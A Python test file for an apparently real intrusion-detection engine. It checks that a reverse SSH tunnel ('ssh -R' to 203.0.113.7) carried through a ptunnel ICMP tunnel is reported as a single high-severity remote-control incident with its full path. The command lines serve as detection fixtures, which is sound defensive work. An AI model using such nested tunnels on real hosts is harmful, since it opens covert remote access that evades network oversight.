"""A tunnel within a tunnel is one way in, and one story."""

import pytest

from tests.unit.host.judge.recording import BUILT_IN, SSHD, Recording, Verdicts
from wachhund.judge.engine import Judge

PTUNNEL, SSH = "/usr/sbin/ptunnel", "/usr/bin/ssh"
FAR = ("203.0.113.7", 0)
REVERSE = ["ssh", "-N", "-R", "203.0.113.7:2222:127.0.0.1:22", "-p", "2000", "root@127.0.0.1"]


def robot() -> Recording:
    """ptunnel leads outside by pings; ssh -R goes through it."""
    scene = Recording()
    scene.coverage()
    scene.process(100, SSHD)
    scene.listen(22, 100, SSHD, existing=True)
    scene.process(600, PTUNNEL, ["ptunnel", "-p", "203.0.113.7", "-lp", "2000", "-da", "203.0.113.7", "-dp", "22"])
    scene.process(601, SSH, REVERSE)
    scene.dial(600, FAR, proto="icmp")
    return scene


def logs_in(scene: Recording) -> None:
    """Somebody comes back by it."""
    scene.wait(1)
    scene.process(900, SSHD, line=(100,))
    scene.within(601, 900, 22)
    scene.ssh_login(100, 900)
    scene.wait(5)
    scene.process(990, "/bin/true")


def told(scene: Recording, batch: int) -> list[dict[str, object]]:
    """The incidents that tell a story of their own."""
    return [one for one in Verdicts(scene.facts, batch).incidents.values() if one["joined"] is None]


@pytest.mark.parametrize("batch", [1, 1_000])
def test_a_login_through_a_tunnel_within_a_tunnel_is_one_incident_with_the_whole_path(batch: int) -> None:
    """Who reads of ssh only looks for a connection that is not there: nothing but pings leaves the robot."""
    scene = robot()
    scene.within(601, 600, 2_000)
    logs_in(scene)
    (incident,) = told(scene, batch)

    assert (incident["kind"], incident["level"]) == ("remote-control", "high")
    assert str(incident["title"]).startswith("Remote control not allowed: ssh as pi through ptunnel")
    origin = incident["origin"]
    assert isinstance(origin, list)
    assert [hop.get("address") or hop.get("exe") or hop["hop"] for hop in origin] == [
        FAR[0], PTUNNEL, "loopback", SSH, "loopback", "service", "user",
    ]  # fmt: skip
    assert any("ssh -R goes through ptunnel" in line for line in incident["story"])  # type: ignore[attr-defined]


def test_the_part_that_was_told_before_is_closed_and_names_the_whole() -> None:
    """A page that showed it, or a program that was told of it, must be able to follow."""
    scene = robot()
    judge = Judge(BUILT_IN.rules)
    before = judge.feed(scene.facts).incidents
    assert {one["state"] for one in before} == {"open"} and len(before) == 2
    count = len(scene.facts)
    scene.within(601, 600, 2_000)
    after = {one["tunnel"]: one for one in judge.feed(scene.facts[count:]).incidents}

    assert (after["ssh -R"]["state"], after["ssh -R"]["close_reason"]) == ("closed", "real")
    assert after["ssh -R"]["joined"] == after["ptunnel"]["id"]
    assert after["ptunnel"]["joined"] is None
    assert len(after["ptunnel"]["evidence"]) > len(before[0]["evidence"])


def test_two_tunnels_side_by_side_stay_two_stories() -> None:
    """Neither goes through the other."""
    scene = robot()
    scene.dial(601, ("198.51.100.4", 22))
    assert len(told(scene, 1_000)) == 2


def test_a_tunnel_that_speaks_to_a_service_of_the_robot_is_not_joined_with_its_story() -> None:
    """A broker that also has a story of its own carries nobody's tunnel."""
    scene = robot()
    scene.process(300, "/usr/sbin/mosquitto")
    scene.listen(1883, 300, "/usr/sbin/mosquitto", existing=True)
    scene.within(601, 300, 1_883)
    assert len(told(scene, 1_000)) == 2


def test_a_connection_that_was_told_before_its_programs_joins_them_as_well() -> None:
    """Senses tell of one moment in any order."""
    scene = robot()
    scene.within(601, 600, 2_000)
    starts = [fact for fact in scene.facts if fact.observation.fields.get("pid") in (600, 601)]
    first = [fact for fact in starts if fact.observation.kind == "process.start"]
    scene.facts = [fact for fact in scene.facts if fact not in first] + first
    assert len(told(scene, 1)) == len(told(scene, 1_000)) == 1
